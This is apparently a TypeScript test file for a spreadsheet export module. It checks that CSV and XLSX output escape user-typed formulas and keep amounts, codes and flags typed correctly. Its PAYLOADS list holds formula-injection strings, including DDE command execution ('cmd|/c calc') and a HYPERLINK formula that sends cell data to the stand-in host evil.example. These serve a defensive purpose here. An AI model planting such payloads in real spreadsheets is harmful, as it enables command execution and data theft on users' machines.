import { EXPORTS } from '@tradewind/contracts/exports/all';
import type { Column } from '@tradewind/contracts/exports/collection';
import { cellOf, textCell } from './cell.js';
import { CsvSheet } from './csv-sheet.js';
import { XlsxSheet } from './xlsx-sheet.js';
import { csvRows, firstColumnOf, workbookOf } from '../../../e2e/support/read-export.ts';

/** What people have put into names so that a spreadsheet carries it out. */
const PAYLOADS = [
  '=1+1',
  `=cmd|'/c calc'!A0`,
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  '+1+1',
  `+cmd|'/c calc'!A0`,
  '-2+3',
  '-1|cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  '＝1+1',
] as const;
const amount: Column = { field: 'total', heading: ['Total', '合计'], kind: 'number' };
const collections = EXPORTS.flatMap((each) => each.collections.map((one) => [one.name, one] as const));
const about = { mark: ['信风导出'], title: '客户', headings: ['名称'] };

describe('S17 No spreadsheet carries out what somebody typed', () => {
  it.each(PAYLOADS)('%j becomes text', (payload) => {
    expect(textCell(payload)).toEqual({ kind: 'text', text: `'${payload}` });
  });

  it.each(collections)('in every text column of %s', (_, { columns }) => {
    for (const column of columns.filter(({ kind }) => kind === 'text'))
      for (const payload of PAYLOADS) expect(cellOf(column, { [column.field]: payload })).toEqual({ kind: 'text', text: `'${payload}` });
  });

  it.each(collections)('nor in a figure of %s that is none', (_, { columns }) => {
    for (const column of columns.filter(({ kind }) => kind === 'number'))
      for (const payload of PAYLOADS) expect(cellOf(column, { [column.field]: payload }).text).toBe(`'${payload}`);
  });

  it('in a CSV file, whatever quotes and lines are in it', async () => {
    const sheet = new CsvSheet();
    sheet.begin({ ...about, headings: ['=名称'] });
    await sheet.add(PAYLOADS.map((payload) => [textCell(payload), textCell('a "b", c\nd')]));
    await sheet.end();
    expect(csvRows(sheet.take())).toEqual([['信风导出'], [`'=名称`], ...PAYLOADS.map((payload) => [`'${payload}`, 'a "b", c\nd'])]);
  });

  it('in a workbook, where it is a string and no formula', async () => {
    const sheet = new XlsxSheet();
    sheet.begin(about);
    await sheet.add(PAYLOADS.map((payload) => [textCell(payload)]));
    await sheet.end();
    const rows = (await workbookOf(sheet.take())).getWorksheet(1);
    // XML knows neither NUL nor a lone carriage return
    const kept = PAYLOADS.map((payload) => `'${payload.replace('\0', '').replace('\r', '\n')}`);
    expect(firstColumnOf(rows)).toEqual(kept);
    rows?.eachRow((row) => {
      expect(row.getCell(1).formula).toBeUndefined();
    });
  });
});

describe('api.md Figures are figures, codes are text', () => {
  it('keeps a negative amount an amount', () => {
    expect(cellOf(amount, { total: '-107000.53' })).toEqual({ kind: 'number', text: '-107000.53' });
  });

  it('leaves empty what is not there', () => {
    expect(cellOf(amount, { total: null })).toEqual({ kind: 'text', text: '' });
  });

  it('writes them so into the workbook', async () => {
    const sheet = new XlsxSheet();
    sheet.begin(about);
    await sheet.add([
      [
        { kind: 'number', text: '999999999999.99' },
        { kind: 'text', text: '0012' },
        { kind: 'flag', text: 'true' },
      ],
    ]);
    await sheet.end();
    const row = (await workbookOf(sheet.take())).getWorksheet(1)?.getRow(2);
    expect([row?.getCell(1).value, row?.getCell(2).value, row?.getCell(3).value]).toEqual([999999999999.99, '0012', true]);
  });

  it('begins a CSV file with the mark of UTF-8', () => {
    const sheet = new CsvSheet();
    sheet.begin(about);
    expect([...sheet.take().subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it.each(collections)('%s names every column in both languages', (_, { columns, title }) => {
    expect([title, ...columns.map(({ heading }) => heading)].flat().filter((word) => word.trim() === '')).toEqual([]);
    expect(new Set(columns.map(({ heading }) => heading[1])).size).toBe(columns.length);
  });

  it('knows amounts from codes by the published language: the columns of orders', () => {
    const orders = collections.find(([name]) => name === 'orders')?.[1].columns ?? [];
    const kinds = Object.fromEntries(orders.map(({ field, kind }) => [field, kind]));
    expect(kinds).toMatchObject({ no: 'text', total: 'number', openedOn: 'text', paymentSecured: 'flag' });
  });
});
